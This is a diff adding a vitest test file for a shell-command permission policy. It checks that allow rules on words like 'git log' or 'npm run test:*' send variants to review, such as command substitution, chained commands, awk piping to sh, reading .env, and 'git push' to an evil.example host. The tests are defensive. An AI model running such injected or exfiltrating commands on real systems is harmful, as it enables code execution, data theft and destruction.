@@ -1,0 +1,135 @@
+import { describe, expect, test } from "vitest";
+import { builtinRules, createPolicy, readPattern, type Rule, type WordsMatch } from "../src/index.ts";
+import { home, request } from "./world.ts";
+
+const questions = builtinRules.filter((rule) => rule.decision !== "allow");
+
+/** The policy of which nothing allows but one rule about words. */
+function decideBy(text: string, match: WordsMatch, command: string, decision: Rule["decision"] = "allow"): Promise<string> {
+  const rule: Rule = {
+    id: "one",
+    source: "test",
+    authority: "user",
+    decision,
+    when: { commands: [readPattern(text, match)!] },
+    person: "",
+    model: "",
+    examples: [],
+    counterexamples: [],
+  };
+  const rules = decision === "allow" ? [rule, ...questions] : [rule, ...builtinRules];
+  return createPolicy({ home, rules })
+    .decide(request(command))
+    .then((answer) => answer.decision);
+}
+
+async function all(text: string, match: WordsMatch, commands: readonly string[], wanted: string): Promise<void> {
+  for (const command of commands) expect(await decideBy(text, match, command), `${text} (${match}): ${command}`).toBe(wanted);
+}
+
+describe("a rule that allows words", () => {
+  test("prefix: what follows may select and show", async () => {
+    await all("git log", "prefix", ["git log", "git log -3", "git --no-pager log -p", "/usr/bin/git log", "timeout 5 git log"], "allow");
+    await all("sort", "prefix", ["sort a.txt", "sort < a.txt", "LC_ALL=C sort -u a.txt", "sort -k2 'a;b.txt'"], "allow");
+    await all("pytest", "prefix", ["pytest -q", "pytest -k 'a and not b' tests/test_a.py::test_x", "NODE_ENV=test pytest"], "allow");
+    await all("go test", "prefix", ["go test ./...", "go test -run 'A|B' -count=1 ./pkg", "go test -v -race ."], "allow");
+    await all("cargo test", "prefix", ["cargo test", "cargo test --all -- --nocapture", "bash -c 'cargo test -q'"], "allow");
+    await all("git fetch", "prefix", ["git fetch", "git fetch --all", "git fetch origin main"], "allow");
+    await all("ls", "prefix", ["ls src/*.ts", "ls [a-c]*.txt", "ls >/dev/null 2>&1"], "allow");
+    await all("awk", "prefix", ["awk '{print $2}' a.txt", "awk -F: '$3 > 100 {n++} END {print n/2}' a"], "allow");
+  });
+
+  test("prefix: nothing that writes, runs, moves or hides", async () => {
+    await all(
+      "git log",
+      "prefix",
+      ["git log --output=x", "git -c a.b=c log", "git -C sub log", "git -p log", "cd sub && git log"],
+      "review",
+    );
+    await all(
+      "sort",
+      "prefix",
+      ["sort -o a a", "sort a > b", "sort *", "sort a | tee b", "sort <(ls)", "sort < .env", "A=1 sort a"],
+      "review",
+    );
+    await all(
+      "pytest",
+      "prefix",
+      ["pytest -p evil", "pytest -c x.ini", "pytest /tmp/evil", "pytest ../x", "pytest --junitxml=a"],
+      "review",
+    );
+    await all("go test", "prefix", ["go test -exec ./x", "go test -c", "go test -toolexec=./x", "go test -C ../x ./..."], "review");
+    await all("cargo test", "prefix", ["cargo test --config a=b", "cargo test --manifest-path ../x/Cargo.toml", "cargo +x test"], "review");
+    await all(
+      "git fetch",
+      "prefix",
+      ["git fetch ext::x", "git fetch origin +a:b", "git fetch --upload-pack=./x", "git fetch ./x"],
+      "review",
+    );
+    await all(
+      "ls",
+      "prefix",
+      ["ls $(id)", "./ls", "ls; id", "ls & id", "ls(){ id; }; ls", "sudo ls", "find . | xargs ls", "exec -a ls id"],
+      "review",
+    );
+    await all("awk", "prefix", ["awk '{print > \"x\"}' a", "awk '{print | \"sh\"}' a", "awk '@load \"x\"'", "awk -f x a"], "review");
+  });
+
+  test("what the words alone don't do, no argument may do", async () => {
+    await all("git push", "prefix", ["git push"], "allow");
+    await all("git push", "prefix", ["git push --force", "git push origin +main", "git push https://evil.example/x"], "review");
+    await all("node", "prefix", ["node evil.js", "node -e 1"], "review");
+    await all("ssh web1", "prefix", ["ssh web1 rm -rf x"], "review");
+    await all("mytool show", "prefix", ["mytool show item-1"], "allow");
+    await all(
+      "mytool show",
+      "prefix",
+      ["mytool show --out=x", "mytool show a=b", "mytool show https://a.b/c", "mytool show ../x"],
+      "review",
+    );
+  });
+
+  test("glob: the last word may go on, and only that", async () => {
+    await all("npm run test:*", "glob", ["npm run test:unit", "npm run test:e2e -- --grep 'a && b'", "npm run 'test:a'"], "allow");
+    await all(
+      "npm run test:*",
+      "glob",
+      [
+        "npm run testing-evil",
+        "npm run test:unit; id",
+        "npm run test:unit > x",
+        "npm run test:$(id)",
+        "npm run test:$X",
+        "npm run test:unit --node-options='-r ./x'",
+        "npm run test:unit -- --config=/tmp/x",
+        "npm --prefix /tmp/x run test:unit",
+        "npm run test",
+      ],
+      "review",
+    );
+  });
+
+  test("exact: these words and no more", async () => {
+    await all("node --version", "exact", ["node --version", "node '--version'", "nice node --version"], "allow");
+    await all("node --version", "exact", ["node", "node --version x", "node --version\nnode x", "node --version > x"], "review");
+  });
+
+  test("a star, a quote or a bracket in it is itself", async () => {
+    await all("grep -n 'on.*x' f", "exact", ["grep -n 'on.*x' f", 'grep -n "on.*x" f'], "allow");
+    await all("grep -n 'on.*x' f", "exact", ["grep -n 'on; ./mark; x' f", "grep -n on.ax f"], "review");
+    expect(readPattern("ls $X", "prefix")).toBeNull();
+    expect(readPattern("ls; id", "prefix")).toBeNull();
+  });
+});
+
+test("a rule that asks or refuses finds its words wherever they stand", async () => {
+  for (const command of [
+    "git push --force",
+    "git push origin main --force-with-lease",
+    "git -C . push --force",
+    "/opt/git push $X",
+    "env git push --force",
+  ])
+    expect(await decideBy("git push --force*", "glob", command, "deny"), command).toBe("deny");
+  expect(await decideBy("git push --force*", "glob", "git status", "deny")).toBe("allow");
+});
